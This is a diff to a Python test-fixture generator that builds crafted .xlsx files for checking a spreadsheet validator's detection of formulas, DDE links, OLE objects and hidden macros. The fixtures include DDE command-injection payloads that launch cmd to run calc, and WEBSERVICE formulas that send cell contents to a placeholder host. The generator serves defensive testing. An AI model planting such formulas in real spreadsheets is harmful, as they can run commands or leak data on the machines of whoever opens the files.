@@ -125,6 +125,8 @@ def build(d: Path) -> list[Kind]:
         add(f"extent: {name}", f"extent_ods_{i}.ods", make(), {"file-too-large"})
     for file, (body, codes) in archive_kinds().items():
         add(f"archive: {file}", file, body, codes)
+    for file, (body, codes) in formula_kinds().items():
+        add(f"content: {file}", file, body, codes)
     return kinds
 
 
@@ -233,4 +235,130 @@ def archive_kinds() -> dict[str, tuple[bytes, set[str]]]:
         "flat_bomb_600x1MiB.zip": (pack([(f"{i}.xlsx", b"\0" * (1 << 20)) for i in range(600)]), {"file-too-large"}),
         "encrypted_members.zip": (_encrypt_flag(pack([("宝力根苏木.xlsx", good), ("b.xlsx", good)])), {"file-encrypted"}),
         "encrypted_nested.zip": (pack([("inner.zip", _encrypt_flag(pack([("a.xlsx", good)])))]), {"file-encrypted"}),
+    }
+
+
+# ------------------------------------------------------------------ 4. formulas and content that escaped detection
+
+SHEET_PART = {"封面": COVER, "表二": T2, "表三": "xl/worksheets/sheet3.xml", "表四": T4}
+
+
+def set_cell(part: str, addr: str, xml: bytes, p: dict[str, bytes] | None = None) -> dict[str, bytes]:
+    """Replace (or add) the cell at ``addr`` of a worksheet part with ``xml``."""
+    p = p if p is not None else parts()
+    body = p[part]
+    pat = re.compile(rb'<c r="' + addr.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
+    if pat.search(body):
+        body = pat.sub(lambda _m: xml, body, count=1)
+    else:
+        row = re.sub(r"[A-Z]", "", addr).encode()
+        m = re.search(rb'<row r="' + row + rb'"[^>]*?(?:/>|>.*?</row>)', body, re.S)
+        if m and m.group(0).endswith(b"</row>"):
+            body = body[: m.end() - 6] + xml + body[m.end() - 6 :]
+        else:
+            body = body.replace(b"</sheetData>", b'<row r="' + row + b'">' + xml + b"</row></sheetData>")
+    p[part] = body
+    return p
+
+
+def _input(cid: str) -> str:
+    from toolkit.spec import current_format
+
+    return current_format().cells[cid].a1
+
+
+def _cover_value(field: str) -> str:
+    from toolkit.spec import conventions, current_format
+
+    f = next(x for x in current_format().cover.fields if x.id == field)
+    return f"{chr(64 + conventions().cover_value_col)}{f.row}"
+
+
+def _names(extra: bytes) -> bytes:
+    return pack(parts() | {"xl/workbook.xml": parts()["xl/workbook.xml"].replace(b"</definedNames>", extra + b"</definedNames>")})
+
+
+OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
+
+
+def formula_kinds() -> dict[str, tuple[bytes, set[str]]]:
+    lic, t3 = _input("t2.license.n"), "xl/worksheets/sheet3.xml"
+    d7 = _input("t3.r1.np")
+    ext_dde = (
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    )
+    types = parts()["[Content_Types].xml"]
+    return {
+        "f_newline_in_input.xlsx": (
+            pack(set_cell(T2, lic, f'<c r="{lic}"><f\n>WEBSERVICE("http://x.invalid/?"&amp;B4)</f><v>0</v></c>'.encode())),
+            {"formula-in-input"},
+        ),
+        "f_tab_attr_in_input.xlsx": (
+            pack(set_cell(t3, d7, f'<c r="{d7}"><f\tt="normal"\n>1+2</f><v>3</v></c>'.encode())),
+            {"formula-in-input"},
+        ),
+        "f_prefixed_in_input.xlsx": (
+            pack(set_cell(T2, lic, f'<c r="{lic}"><m:f xmlns:m="{MAIN}">1+1</m:f><v>2</v></c>'.encode())),
+            {"formula-in-input"},
+        ),
+        "f_cover_webservice.xlsx": (
+            pack(
+                set_cell(
+                    COVER,
+                    _cover_value("filler"),
+                    f'<c r="{_cover_value("filler")}" t="str"><f>WEBSERVICE("http://x.invalid")</f><v>图雅</v></c>'.encode(),
+                )
+            ),
+            {"formula-unexpected"},
+        ),
+        "f_cover_plain.xlsx": (
+            pack(
+                set_cell(
+                    COVER,
+                    _cover_value("phone"),
+                    f'<c r="{_cover_value("phone")}" t="str"><f>"0479"&amp;"-1"</f><v>0479-1</v></c>'.encode(),
+                )
+            ),
+            {"formula-unexpected"},
+        ),
+        "f_label_cell.xlsx": (
+            pack(set_cell(t3, "A7", b'<c r="A7" t="str"><f>HYPERLINK("http://x.invalid","x")</f><v>x</v></c>')),
+            {"formula-unexpected"},
+        ),
+        "f_beside_table.xlsx": (pack(set_cell(T2, "Z3", b'<c r="Z3"><f>1+1</f><v>2</v></c>')), {"formula-unexpected"}),
+        "f_dde_in_cell.xlsx": (
+            pack(set_cell(T4, "A2", b"<c r=\"A2\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")),
+            {"formula-unexpected"},
+        ),
+        "f_external_ref_in_total.xlsx": (
+            pack(set_cell(t3, "J7", b'<c r="J7"><f>[1]Sheet1!$A$1</f><v>0</v></c>')),
+            {"formula-unexpected"},
+        ),
+        "dde_defined_name.xlsx": (_names(b"<definedName name=\"go\">cmd|'/C calc'!A0</definedName>"), {"dde-link"}),
+        "dde_defined_name_msexcel.xlsx": (
+            _names(
+                b"<definedName name=\"_a\" hidden=\"1\">MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</definedName>"
+            ),
+            {"dde-link"},
+        ),
+        "name_webservice.xlsx": (
+            _names(b'<definedName name="w">WEBSERVICE("http://x.invalid")</definedName>'),
+            {"formula-unexpected"},
+        ),
+        "dde_external_part.xlsx": (pack(parts() | {"xl/externalLinks/externalLink1.xml": ext_dde}), {"dde-link"}),
+        "ole_embedding.xlsx": (pack(parts() | {"xl/embeddings/oleObject1.bin": OLE2}), {"ole-object"}),
+        "ole_activex.xlsx": (pack(parts() | {"xl/activeX/activeX1.xml": b"<ax/>"}), {"ole-object"}),
+        "vba_elsewhere.xlsx": (pack(parts() | {"xl/media/image1.bin": OLE2}), {"macros-hidden"}),
+        "vba_customxml.xlsx": (pack(parts() | {"customXml/vbaProject.bin": OLE2}), {"macros-hidden"}),
+        "xlm_macrosheet.xlsx": (pack(parts() | {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), {"macros-hidden"}),
+        "content_type_macros.xlsx": (
+            pack(
+                parts()
+                | {"[Content_Types].xml": types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")}
+            ),
+            {"macros-present"},
+        ),
+        "error_div0.xlsx": (pack(set_cell(T2, lic, f'<c r="{lic}" t="e"><v>#DIV/0!</v></c>'.encode())), {"value-error"}),
+        "error_ref_quoted.xlsx": (pack(set_cell(t3, d7, f"<c r='{d7}' t='e'><v>#REF!</v></c>".encode())), {"value-error"}),
     }
